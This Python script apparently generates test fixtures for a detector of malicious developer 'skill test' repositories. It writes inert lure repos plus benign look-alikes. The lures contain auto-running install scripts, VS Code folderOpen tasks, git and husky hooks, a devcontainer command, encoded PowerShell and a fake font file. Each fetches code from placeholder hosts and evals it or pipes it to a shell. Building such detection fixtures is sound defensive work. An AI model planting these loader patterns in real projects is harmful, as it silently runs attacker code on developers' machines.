#!/usr/bin/env python3
"""Writes the whole-repository fixtures of the core (issue 3): inert lures, one per technique and several layered,
and benign look-alikes that use the same mechanisms legitimately. Payload hosts are reserved names (.invalid) or
documentation addresses only. Also writes fixtures/archives/*.zip (a lure as a mailed zip, with a live .git/)."""
import base64, io, json, os, struct, sys, zipfile, zlib

HERE = os.path.dirname(__file__)
REPOS = os.path.join(HERE, '..', 'fixtures', 'repos')
ARCHIVES = os.path.join(HERE, '..', 'fixtures', 'archives')
rows = []

def repo(name, expected, note, files):
    for rel, content in files.items():
        p = os.path.join(REPOS, name, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, 'wb' if isinstance(content, bytes) else 'w') as f:
            f.write(content)
    rows.append((name, expected, note))

def pkg(name, scripts, deps=None, extra=None):
    d = {"name": name, "version": "1.0.0", "private": True, "scripts": scripts, "dependencies": deps or {"express": "^4.19.2", "dotenv": "^16.4.5"}}
    if extra: d.update(extra)
    return json.dumps(d, indent=2) + "\n"

def tasks(ts, comment="// Workspace tasks"):
    return comment + "\n" + json.dumps({"version": "2.0.0", "tasks": ts}, indent=2) + "\n"

def png_1x1():
    def chunk(t, d):
        c = struct.pack('>I', len(d)) + t + d
        return c + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    return b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 1, 1, 8, 6, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(b'\x00' * 5)) + chunk(b'IEND', b'')

SERVER = "const express = require('express');\nconst app = express();\napp.use(express.json());\napp.use('/api', require('./routes'));\napp.listen(process.env.PORT || 3000, () => console.log('listening'));\n"
ROUTES = "const router = require('express').Router();\nrouter.get('/health', (req, res) => res.json({ ok: true }));\nmodule.exports = router;\n"
README_TEST = "# Wallet dashboard — developer skill test\n\nThis should take about 40 minutes. Run `npm i && npm start` and fix the failing balance endpoint.\n"
FAKE_FONT_JS = "global['!']='9-3012-1';var _$_a1=(function(s){return s.split('').reverse().join('')})('lave');" \
    "require('https').get('https://fonts-cdn.invalid/api/ipcheck-encrypted/77',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>global[_$_a1](d))});\n"
NODE_E = "node -e \"require('https').get('https://203.0.113.10/settings/linux?flag=2',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""
base = {'server.js': SERVER, 'routes.js': ROUTES, 'README.md': README_TEST}

# --- lures -----------------------------------------------------------------------------------------------------
repo('lure-install-background', 'block', 'T03+T16: preinstall starts the server in the background (start /b || nohup &)', {
    **base, 'package.json': pkg('wallet-dashboard', {"preinstall": "start /b node server || nohup node server &", "start": "node server"})})
repo('lure-fake-font-task', 'block', 'T10+T11: folderOpen task runs a .woff2 that is JavaScript', {
    **base, 'package.json': pkg('nft-marketplace', {"start": "node server"}),
    '.vscode/tasks.json': tasks([{"label": "vscode-fonts", "type": "shell", "command": "node ./public/fonts/fa-solid-400.woff2",
        "presentation": {"reveal": "silent", "echo": False, "close": True}, "runOptions": {"runOn": "folderOpen"}}]),
    'public/fonts/fa-solid-400.woff2': FAKE_FONT_JS, 'public/index.html': "<!doctype html><title>NFT</title>\n"})
repo('lure-devcontainer-host', 'block', 'T11: devcontainer initializeCommand pipes a download into bash on the host', {
    **base, 'package.json': pkg('api-service', {"start": "node server"}),
    '.devcontainer/devcontainer.json': '{\n  "name": "api",\n  "image": "mcr.microsoft.com/devcontainers/javascript-node:20",\n  // prepare docker credentials on the host\n  "initializeCommand": "curl -fsSL https://devcontainer-cache.invalid/init.sh | bash",\n  "postCreateCommand": "npm ci",\n}\n'})
repo('lure-husky-hook', 'block', 'T12+T03: prepare installs husky, post-checkout hook runs node -e loader', {
    **base, 'package.json': pkg('trading-bot', {"prepare": "husky", "start": "node server"}),
    '.husky/post-checkout': "#!/usr/bin/env sh\n" + NODE_E + "\n", '.husky/pre-commit': "npx lint-staged\n"})
repo('lure-encoded-powershell', 'block', 'T03: predev runs hidden, encoded PowerShell that pipes a download into iex', {
    **base, 'package.json': pkg('defi-analytics', {"predev": "powershell -nop -w hidden -enc " + base64.b64encode("iex (iwr 'http://198.51.100.7:1224/pdown' -UseBasicParsing).Content".encode('utf-16le')).decode(), "dev": "node server"})})
repo('lure-makefile-chain', 'block', 'T11 via make: folderOpen task runs make setup, whose recipe curls into sh', {
    **base, 'package.json': pkg('exchange-ui', {"start": "node server"}),
    '.vscode/tasks.json': tasks([{"label": "setup", "type": "shell", "command": "make setup", "runOptions": {"runOn": "folderOpen"}}]),
    'Makefile': ".PHONY: setup build\n\nsetup:\n\t@echo preparing environment\n\t@curl -s http://192.0.2.61/env/linux | sh\n\nbuild:\n\tnpm run build\n"})
repo('lure-binary-task', 'block', 'T21+T11: folderOpen task runs a committed ELF binary', {
    **base, 'package.json': pkg('swap-widget', {"start": "node server"}),
    '.vscode/tasks.json': tasks([{"label": "sync", "type": "shell", "command": "./tools/sync-helper", "runOptions": {"runOn": "folderOpen"}, "presentation": {"reveal": "never"}}]),
    'tools/sync-helper': b'\x7fELF\x02\x01\x01\x00' + bytes(248)})
repo('lure-layered-skill-test', 'block', 'T03+T11+T15+T16 layered: hidden folderOpen npm install -> prepare loader, allowAutomaticTasks, C2 URL', {
    **base, 'package.json': pkg('student-management', {"prepare": NODE_E, "start": "node server", "test": "mocha"}),
    '.vscode/tasks.json': tasks([{"label": "install", "type": "shell", "command": "npm install --silent", "presentation": {"reveal": "never", "echo": False}, "runOptions": {"runOn": "folderOpen"}}]),
    '.vscode/settings.json': '{\n  "task.allowAutomaticTasks": "on",\n  "editor.formatOnSave": true\n}\n',
    'config/default.js': "module.exports = { api: 'http://203.0.113.50:1224/client/5/501' };\n"})
repo('lure-node-e-task', 'block', 'T11+T15: folderOpen task node -e https.get(/settings/linux?flag) -> eval', {
    **base, 'package.json': pkg('token-dapp', {"start": "node server"}),
    '.vscode/tasks.json': tasks([{"label": "install-root-modules", "type": "shell", "command": NODE_E, "runOptions": {"runOn": "folderOpen"}}])})

# --- benign look-alikes ----------------------------------------------------------------------------------------
repo('benign-husky-prisma', 'pass-or-warn', 'prepare husky, postinstall prisma generate, lint-staged hook', {
    **base, 'package.json': pkg('saas-api', {"prepare": "husky", "postinstall": "prisma generate", "start": "node server", "test": "vitest"}, {"@prisma/client": "^5.17.0", "express": "^4.19.2"}),
    '.husky/pre-commit': "npx lint-staged\n", 'prisma/schema.prisma': "datasource db {\n  provider = \"postgresql\"\n  url      = env(\"DATABASE_URL\")\n}\n"})
repo('benign-native-addon', 'pass-or-warn', 'install: node-gyp rebuild; prebuild-install fallback', {
    'package.json': pkg('fast-hash', {"install": "prebuild-install || node-gyp rebuild", "test": "node test.js"}, {"nan": "^2.20.0"}),
    'binding.gyp': "{ 'targets': [ { 'target_name': 'fast_hash', 'sources': [ 'src/hash.cc' ] } ] }\n", 'src/hash.cc': "// native hashing\n", 'test.js': "require('assert').ok(true);\n"})
repo('benign-esbuild-style', 'pass-or-warn', 'postinstall node install.js picking a platform binary', {
    'package.json': pkg('bundler-cli', {"postinstall": "node install.js"}, {}),
    'install.js': "// Verifies that the optional platform package npm installed is usable; never downloads.\nconst { execFileSync } = require('child_process');\nconst bin = require.resolve('bundler-cli-linux-x64/bin/bundler');\nexecFileSync(bin, ['--version']);\n"})
repo('benign-vscode-watch', 'pass-or-warn', 'folderOpen tasks running npm run watch and tsc -w (warn at most)', {
    'package.json': pkg('ts-lib', {"watch": "tsc -w", "build": "tsc"}, {}),
    '.vscode/tasks.json': tasks([{"label": "watch", "type": "npm", "script": "watch", "command": "npm run watch", "runOptions": {"runOn": "folderOpen"}, "isBackground": True},
                                 {"label": "tsc", "type": "shell", "command": "tsc -w -p .", "runOptions": {"runOn": "folderOpen"}}]),
    '.vscode/settings.json': '{\n  "editor.tabSize": 2\n}\n', 'src/index.ts': "export const x = 1;\n"})
repo('benign-devcontainer', 'pass-or-warn', 'devcontainer running npm ci and git config', {
    **base, 'package.json': pkg('web-app', {"start": "node server"}),
    '.devcontainer/devcontainer.json': json.dumps({"name": "web", "image": "mcr.microsoft.com/devcontainers/javascript-node:20", "postCreateCommand": "npm ci",
        "postStartCommand": "git config --global --add safe.directory ${containerWorkspaceFolder}", "forwardPorts": [3000]}, indent=2)})
repo('benign-assets', 'pass-or-warn', 'real fonts and images', {
    **base, 'package.json': pkg('landing', {"start": "node server"}),
    'public/fonts/inter.woff2': b'wOF2\x00\x01\x00\x00' + bytes(range(256)) * 8, 'public/fonts/inter.woff': b'wOFF\x00\x01\x00\x00' + bytes(200),
    'public/img/logo.png': png_1x1(), 'public/favicon.ico': b'\x00\x00\x01\x00\x01\x00\x10\x10' + bytes(64)})
repo('benign-security-docs', 'pass-or-warn', 'security write-up quoting indicators in Markdown', {
    'package.json': pkg('threat-notes', {"test": "node -e \"console.log('docs only')\""}, {}),
    'docs/indicators.md': "# Contagious Interview indicators\n\n| indicator | note |\n|---|---|\n| `https://api.npoint.io/f128c1c1135e7bb1779d` | JSON dead drop |\n| `http://198.51.100.9:1224/pdown` | BeaverTail download path |\n\nA lure's task runs `curl -s 'https://x.invalid/settings/mac?flag=3' | sh`.\n"})

# Keep the rows other fixture generators own; rewrite ours.
tsv = os.path.join(REPOS, 'expectations.tsv')
ours = {r[0] for r in rows} | {'lure-tasks-curl'}
kept = []
if os.path.exists(tsv):
    kept = [l for l in open(tsv).read().splitlines()[1:] if l.strip() and l.split('\t')[0] not in ours]
with open(tsv, 'w') as f:
    f.write('name\texpected\tnote\n')
    f.write('lure-tasks-curl\tblock\tT11+T15: folderOpen task, per-OS curl|sh to /settings/<os>?flag=N, hidden terminal\n')
    for r in rows:
        f.write('\t'.join(r) + '\n')
    for l in kept:
        f.write(l + '\n')

# --- archives ----------------------------------------------------------------------------------------------------
os.makedirs(ARCHIVES, exist_ok=True)
def zip_tree(zpath, prefix, root_dir, extra):
    with zipfile.ZipFile(zpath, 'w', zipfile.ZIP_DEFLATED) as z:
        # Fixed timestamps and a sorted walk keep regenerated archives byte-identical.
        def put(name, content):
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
        for dirpath, dirs, names in sorted(os.walk(root_dir)):
            dirs.sort()
            for n in sorted(names):
                full = os.path.join(dirpath, n)
                put(prefix + os.path.relpath(full, root_dir), open(full, 'rb').read())
        for name, content in extra.items():
            put(name, content)
zip_tree(os.path.join(ARCHIVES, 'lure-take-home.zip'), 'take-home-test/', os.path.join(REPOS, 'lure-fake-font-task'), {
    'take-home-test/.git/HEAD': 'ref: refs/heads/main\n',
    'take-home-test/.git/config': "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"node public/fonts/fa-solid-400.woff2\"\n",
    'take-home-test/.git/hooks/post-checkout': "#!/bin/sh\nnode public/fonts/fa-solid-400.woff2 &\n"})
zip_tree(os.path.join(ARCHIVES, 'benign-take-home.zip'), 'benign-take-home/', os.path.join(REPOS, 'benign-husky-prisma'), {})
print(f'{len(rows) + 1} repos, 2 archives')
